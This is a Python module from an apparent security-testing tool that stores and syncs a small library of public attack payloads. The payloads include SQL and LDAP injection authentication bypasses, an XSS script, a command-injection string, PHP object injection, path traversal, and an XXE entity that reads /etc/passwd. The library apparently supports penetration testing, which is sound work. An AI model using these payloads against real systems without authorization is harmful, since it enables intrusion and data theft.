"""Payload library: static public payload sets plus list/sync/search."""

from __future__ import annotations

import logging
from dataclasses import dataclass
from typing import Any

from secscope.errors import DependencyError, ValidationError
from secscope.modules.store import Store

logger = logging.getLogger(__name__)

GITHUB_PAYLOADS: tuple[dict[str, str], ...] = (
    {
        "name": "PayloadsAllTheThings SQL Injection",
        "type": "sql-injection",
        "payload": "admin' OR '1'='1' /*",
        "description": "SQL injection payload for MySQL authentication bypass",
        "source": "PayloadsAllTheThings",
        "source_url": "https://github.com/swisskyrepo/PayloadsAllTheThings",
        "category": "authentication",
    },
    {
        "name": "XSS Hunter Basic Payload",
        "type": "xss",
        "payload": "<script>alert(String.fromCharCode(88,83,83))</script>",
        "description": "Encoded XSS payload to bypass basic filters",
        "source": "XSS Hunter",
        "source_url": "https://github.com/mandatoryprogrammer/xsshunter-express",
        "category": "client-side",
    },
    {
        "name": "Command Injection via Ping",
        "type": "command-injection",
        "payload": "127.0.0.1; whoami",
        "description": "Command injection via ping command",
        "source": "HackerOne",
        "source_url": "https://github.com/hackerone/payloads",
        "category": "server-side",
    },
)

EXPLOITDB_PAYLOADS: tuple[dict[str, str], ...] = (
    {
        "name": "Exploit-DB PHP Object Injection",
        "type": "object-injection",
        "payload": 'O:8:"stdClass":1:{s:4:"exec";s:10:"phpinfo();";}',
        "description": "PHP object injection payload",
        "source": "Exploit-DB",
        "source_url": "https://www.exploit-db.com/",
        "category": "server-side",
    },
    {
        "name": "Exploit-DB LDAP Injection",
        "type": "ldap-injection",
        "payload": "*)(|(password=*))",
        "description": "LDAP injection to bypass authentication",
        "source": "Exploit-DB",
        "source_url": "https://www.exploit-db.com/",
        "category": "authentication",
    },
)

OWASP_PAYLOADS: tuple[dict[str, str], ...] = (
    {
        "name": "OWASP A01 Broken Access Control",
        "type": "path-traversal",
        "payload": "../admin/config.php",
        "description": "Path traversal to access admin configuration",
        "source": "OWASP",
        "source_url": "https://owasp.org/Top10/",
        "category": "server-side",
    },
    {
        "name": "OWASP A03 XML External Entity",
        "type": "xxe",
        "payload": (
            '<!DOCTYPE foo [<!ELEMENT foo ANY ><!ENTITY xxe SYSTEM "file:///etc/passwd" >]>'
            "<foo>&xxe;</foo>"
        ),
        "description": "XXE payload to read system files",
        "source": "OWASP",
        "source_url": "https://owasp.org/Top10/",
        "category": "server-side",
    },
)

PAYLOAD_SOURCES = (GITHUB_PAYLOADS, EXPLOITDB_PAYLOADS, OWASP_PAYLOADS)


@dataclass(frozen=True, slots=True)
class SyncResult:
    synced_count: int

    @property
    def message(self) -> str:
        return f"Successfully synced {self.synced_count} new payloads"

    def to_dict(self) -> dict[str, Any]:
        return {"message": self.message, "syncedCount": self.synced_count}


class PayloadLibrary:
    """List, sync and search the stored payload library."""

    def __init__(self, store: Store):
        self.store = store

    def list(self, type: str | None = None, category: str | None = None) -> list[dict]:
        return [entry.to_dict() for entry in self.store.list_library(type=type, category=category)]

    def search(self, query: str, type: str | None = None) -> list[dict]:
        if not query:
            raise ValidationError("Search query is required")
        return [entry.to_dict() for entry in self.store.search_library(query, type=type)]

    def sync(self) -> SyncResult:
        """Insert every static payload not already stored as (payload, type)."""
        logger.info("Syncing payloads from static sources")
        synced = 0
        for source in PAYLOAD_SOURCES:
            for item in source:
                if self.store.has_library_payload(item["payload"], item["type"]):
                    continue
                try:
                    self.store.add_library_payload(**item)
                except DependencyError:
                    logger.warning("Skipping payload %r", item["name"], exc_info=True)
                    continue
                synced += 1

        logger.info("Synced %d new payloads", synced)
        return SyncResult(synced_count=synced)
